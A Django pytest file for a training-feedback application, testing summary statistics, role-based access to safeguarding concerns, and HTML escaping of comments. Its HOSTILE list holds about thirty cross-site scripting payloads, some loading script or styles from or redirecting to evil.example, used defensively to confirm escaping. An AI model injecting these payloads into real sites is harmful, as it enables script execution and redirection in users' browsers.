"""What officers read, what only the safeguarding lead reads, and what nobody's browser runs."""

import pytest
from django.urls import reverse
from django.utils.html import escape

from feedback.answering import give_feedback
from feedback.concerns import deal_with
from feedback.models import Concern, Question, Questionnaire
from feedback.summaries import summary_of
from people import roles
from tests import factories

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("afterwards")]

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=`javascript:alert(1)`>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<form action=//evil.example><input type=submit></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<math><mtext></mtext><script>alert(1)</script></math>",
    "<style>@import '//evil.example/x.css'</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "</textarea><script>alert(1)</script>",
    "</p></ul></table><script>alert(1)</script>",
    "'\"--><script>alert(1)</script>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
]


@pytest.fixture
def safeguarding_lead(db):
    return factories.make_user(roles.SAFEGUARDING_LEAD, email="lead@example.org")


def say(session, *, comment="", worried=False, **answers):
    attendance = factories.make_attendance(session)
    give_feedback(session, attendance=attendance, answers=answers, comment=comment, worried=worried)


def summary_page(session):
    return reverse("feedback_summary", args=[session.pk])


def test_a_summary_carries_its_number_and_its_response_rate(session):
    for agreement in [5, 4, 2]:
        say(session, satisfied=agreement)
    factories.make_attendance(session)

    summary = summary_of(session)

    assert (summary.answers, summary.response_rate) == (3, "3 of 4")
    assert (summary.lines[0].good, summary.lines[0].now.number) == ("2 of 3", 3)


def test_confidence_is_compared_before_and_now(session):
    for pair in [(2, 4), (4, 4), (1, 5)]:
        say(session, **{"recognise-signs": pair})

    line = summary_of(session).lines[0]

    assert (line.good_before, line.good, line.share_that_rose) == ("1 of 3", "3 of 3", "2 of 3")


def test_a_yes_or_no_is_counted(session):
    questionnaire = Questionnaire.objects.get(title="After a session")
    Question.objects.create(questionnaire=questionnaire, code="again", kind="yes_no", text="Would you come again?")
    for answer in [True, False]:
        say(session, again=answer)

    assert summary_of(session).lines[0].yes == "1 of 2"


def test_where_nobody_counted_there_is_no_response_rate(young_session):
    give_feedback(young_session, answers={"satisfied": 5})

    assert summary_of(young_session).response_rate == ""


def test_a_session_nobody_answered_about_has_an_empty_summary(session):
    summary = summary_of(session)

    assert (summary.answers, summary.lines, summary.comments) == (0, [], [])


def test_a_worry_is_in_no_summary(session):
    say(session, comment="About a pupil", worried=True)

    assert summary_of(session).comments == []


def test_an_officer_reads_a_summary(browse_as, officer, session):
    say(session, satisfied=5, comment="Very clear")

    page = browse_as(officer).get(summary_page(session)).content

    assert b"Very clear" in page
    assert b"1 person answered" in page


@pytest.mark.parametrize("who", ["trainer_user", "editor", "licensing_officer", "outsider"])
def test_nobody_else_reads_a_summary(browse_as, request, session, who):
    response = browse_as(request.getfixturevalue(who)).get(summary_page(session))

    assert response.status_code == 302


def test_the_summary_shows_the_shared_link_of_a_headcount_session(browse_as, officer, young_session):
    page = browse_as(officer).get(summary_page(young_session)).content.decode()

    assert f"https://muster.example.org/feedback/{young_session.feedback_token}/" in page


@pytest.mark.parametrize("text", HOSTILE)
def test_a_comment_is_shown_as_text(browse_as, officer, session, text):
    say(session, comment=text)

    page = browse_as(officer).get(summary_page(session)).content.decode()

    assert text not in page
    assert escape(text) in page


@pytest.mark.parametrize("text", HOSTILE)
def test_a_worry_is_shown_as_text(browse_as, safeguarding_lead, session, text):
    say(session, comment=text, worried=True)

    assert text not in browse_as(safeguarding_lead).get(reverse("feedback_concerns")).content.decode()


@pytest.mark.parametrize("who", ["officer", "administrator", "trainer_user", "editor", "licensing_officer", "outsider"])
def test_only_the_safeguarding_lead_reads_concerns(browse_as, request, session, who):
    say(session, comment="About a pupil", worried=True)

    response = browse_as(request.getfixturevalue(who)).get(reverse("feedback_concerns"))

    assert response.status_code == 302


def test_the_safeguarding_lead_reads_concerns(browse_as, safeguarding_lead, session):
    say(session, comment="About a pupil", worried=True)

    assert b"About a pupil" in browse_as(safeguarding_lead).get(reverse("feedback_concerns")).content


def test_new_concerns_stand_above_those_dealt_with(browse_as, safeguarding_lead, session):
    for text in ["Old", "New"]:
        say(session, comment=text, worried=True)
    deal_with(Concern.objects.get(text="Old"), by=safeguarding_lead)

    concerns = browse_as(safeguarding_lead).get(reverse("feedback_concerns")).context["concerns"]

    assert [concern.text for concern in concerns] == ["New", "Old"]


def test_a_concern_is_dealt_with_once(browse_as, safeguarding_lead, session):
    say(session, comment="About a pupil", worried=True)
    concern = Concern.objects.get()

    browse_as(safeguarding_lead).post(reverse("concern_deal_with", args=[concern.pk]))
    deal_with(concern, by=factories.make_user())

    concern.refresh_from_db()
    assert (concern.state, concern.dealt_with_by) == ("dealt_with", safeguarding_lead)


def test_an_officer_cannot_deal_with_a_concern(browse_as, officer, session):
    say(session, worried=True)

    browse_as(officer).post(reverse("concern_deal_with", args=[Concern.objects.get().pk]))

    assert Concern.objects.get().state == "new"


@pytest.mark.parametrize("path", ["questionnaires/", "questionnaires/new/", "course-questionnaires/"])
def test_an_officer_reaches_the_questionnaires(browse_as, officer, path):
    assert browse_as(officer).get(f"/admin/{path}").status_code == 200
